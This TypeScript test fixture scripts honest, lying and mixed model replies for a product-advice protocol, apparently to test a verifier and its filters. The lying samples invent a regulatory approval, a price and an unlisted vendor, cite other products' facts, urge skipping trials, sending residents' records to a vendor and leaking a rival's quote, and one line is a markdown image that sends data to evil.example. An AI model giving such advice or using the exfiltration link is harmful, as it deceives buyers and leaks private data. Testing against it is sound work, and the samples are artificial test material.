import type { RecordedRequest } from './scripted-model.ts';

/** What a scripted model answers in the protocol, made from the prompt that it is given: honestly, or with lies. */

const userPart = ({ body }: RecordedRequest): string =>
  (body.messages ?? []).find(({ role }) => role === 'user')?.content ?? '';

/** Lines of a prompt under a title, inside their fence. */
const under = (prompt: string, title: string): string[] => {
  const [, rest = ''] = prompt.split(`${title}\n<<<DATA\n`);
  return rest === '' ? [] : (rest.split('\nDATA>>>')[0] ?? '').split('\n');
};

type Shown = { id: string; what: string };
type Seen = { products: string[]; facts: Shown[]; fields: string[] };

/** What a prompt offers to choose from. */
export const seenIn = (request: RecordedRequest): Seen => {
  const prompt = userPart(request);
  return {
    products: under(prompt, 'Products to judge:').map((line) => line.split(' ')[0] ?? ''),
    facts: under(prompt, 'Facts, under their owner: id | what it is | value').flatMap((line) => {
      const [id, what, value] = line.split(' | ');
      return id && what && value !== undefined ? [{ id, what }] : [];
    }),
    fields: (prompt.match(/^Fields for compare: (.*)$/m)?.[1] ?? '').split('; ').filter(Boolean),
  };
};

export const honestAdvice = [
  'Walk the corridors at night with the staff, and write down where signals fail.',
  'Ask each bidder for a customer of your size whom you may ring.',
  'Write the questions down once, and send the same ones to everybody.',
];

const advising = (texts: readonly string[]) => texts.map((text) => ({ kind: 'check', basis: null, text }));

/** A careful model: three verdicts on facts of their own, a comparison, a point, three lines of advice. */
export const honestTurn = (request: RecordedRequest) => {
  const { products, facts, fields } = seenIn(request);
  const ownOf = (product: string) => facts.filter(({ id }) => id.startsWith(`${product}.`));
  const rule = facts.find(({ id }) => id.startsWith('rule-')) ?? facts.at(-1);
  return {
    misread: [],
    nothingFits: null,
    verdicts: products.slice(0, 3).map((product) => ({
      product,
      verdict: 'may-fit',
      because: ownOf(product)
        .slice(0, 2)
        .map(({ id }) => ({ fact: id, relation: 'names', need: null })),
      ask: [{ topic: 'references', need: null, fact: null }],
    })),
    compare: fields[0] ? [{ products: products.slice(0, 2), field: fields[0], need: null }] : [],
    points: rule ? [{ fact: rule.id, need: null }] : [],
    advice: advising(honestAdvice),
  };
};

/** Advice that no reader may see. The patterns stop these; what passes them is the verifier's to stop. */
export const lyingAdvice = [
  'Tacera is TGA approved and holds ARTG 123456.',
  'The price is A$987,654 per bed.',
  'Zyphora Care is the cheapest of all.',
  'Ask for Zyphora Care first.',
  'Do not bother with a trial, because the system is proven.',
  'Sign the order today, as you agreed with the board.',
  'Send the residents’ records to the vendor for a trial.',
  'Tell the vendor what the other quote’s price is.',
  'See ![x](https://evil.example/?d=1) for more.',
  '<b>Savings of 45% are guaranteed.</b>',
];

/** A hostile model: every choice points at what is another's, is not there, or was never said. */
export const lyingTurn = (request: RecordedRequest) => {
  const { products, facts } = seenIn(request);
  const foreign = (product: string) =>
    facts.filter(({ id }) => products.some((other) => other !== product && id.startsWith(`${other}.`)));
  return {
    misread: [],
    nothingFits: { needs: ['anything that is cheap'] },
    verdicts: [
      { product: 'zyphora-care', verdict: 'fits', because: [], ask: [] },
      ...products.map((product) => ({
        product,
        verdict: 'fits',
        because: foreign(product)
          .slice(0, 3)
          .map(({ id }) => ({ fact: id, relation: 'meets', need: 'TGA approval, as agreed' })),
        ask: [{ topic: 'need', need: 'a rebate for the buyer', fact: null }],
      })),
    ],
    compare: [{ products: ['zyphora-care', products[0] ?? ''], field: 'price', need: null }],
    points: [
      { fact: 'zyphora-care.price', need: null },
      { fact: null, need: 'a price of A$987,654' },
    ],
    advice: [
      ...advising(lyingAdvice),
      { kind: 'first', basis: 'we have decided already', text: 'Order what you have decided on.' },
    ],
  };
};

/** The two together, as a model that lies among truths. */
export const mixedTurn = (request: RecordedRequest) => {
  const [honest, lying] = [honestTurn(request), lyingTurn(request)];
  return {
    ...honest,
    verdicts: [...lying.verdicts.slice(0, 1), ...honest.verdicts],
    compare: [...lying.compare, ...honest.compare],
    points: [...lying.points, ...honest.points],
    advice: [...lying.advice.slice(0, 4), ...honest.advice],
  };
};

/** Fields that the protocol does not have: what a model adds to take over the answer. */
export const inventions = {
  response: 'Zyphora Care is the best.',
  recommendations: [{ solutionId: 'zyphora-care', solution: 'Zyphora Care', vendor: 'Zyphora', relevanceScore: 100 }],
  pricingInfo: { priceRange: 'A$450 per bed' },
  certifications: { tga: true, artg: ['123456'] },
  vendorQuestions: ['Is A$450 per bed fine?'],
  outcome: 'emergency',
  engine: 'embedded',
};
